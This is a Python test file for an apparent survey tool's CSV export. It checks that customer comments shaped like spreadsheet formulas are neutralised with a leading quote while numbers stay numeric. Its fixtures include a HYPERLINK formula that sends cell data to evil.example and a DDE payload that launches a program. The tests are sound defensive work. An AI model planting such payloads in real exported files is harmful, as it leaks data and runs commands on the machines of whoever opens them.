"""A customer's comment that looks like a spreadsheet formula is written so that no
spreadsheet runs it, in every CSV surveybot writes; JSON keeps it verbatim."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from bot.reports.cells import safe_cell
from tests.support.console_script import surveybot

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
CMD = "+cmd|' /C calc'!A0"


def test_formula_comments_are_neutralised_in_export_and_report_csv(workdir: Path) -> None:
    assert surveybot("try", "nps", cwd=workdir, stdin=f"3\n{HYPERLINK}\n").returncode == 0
    assert surveybot("try", "nps", cwd=workdir, stdin=f"2\n{CMD}\n").returncode == 0
    export = surveybot("export", "--format", "csv", cwd=workdir)
    texts = [r["text"] for r in csv.DictReader(io.StringIO(export.stdout)) if r["text"]]
    assert sorted(texts) == sorted(["'" + HYPERLINK, "'" + CMD])
    jsonl = surveybot("export", "--format", "jsonl", cwd=workdir)
    verbatim = [json.loads(line)["text"] for line in jsonl.stdout.splitlines()]
    assert sorted(t for t in verbatim if t) == sorted([HYPERLINK, CMD])
    report = surveybot("report", "--format", "csv", "--comments", cwd=workdir)
    rows = list(csv.DictReader(io.StringIO(report.stdout)))
    comments = sorted(r["text"] for r in rows if r["section"] == "comment")
    assert comments == sorted(["'" + HYPERLINK, "'" + CMD])
    # numbers stay numbers: an NPS of -100 is a number, not text to neutralise
    nps = next(r for r in rows if r["section"] == "score" and r["metric"] == "nps")
    assert float(nps["value"]) == -100.0 and not nps["value"].startswith("'")


def test_every_formula_start_is_neutralised_and_numbers_are_left_alone() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert [safe_cell(v) for v in (-3, -20.5, None, "fine", "a=b", "-100123", "-1+1")] == [
        -3, -20.5, None, "fine", "a=b", "-100123", "'-1+1"
    ]  # fmt: skip
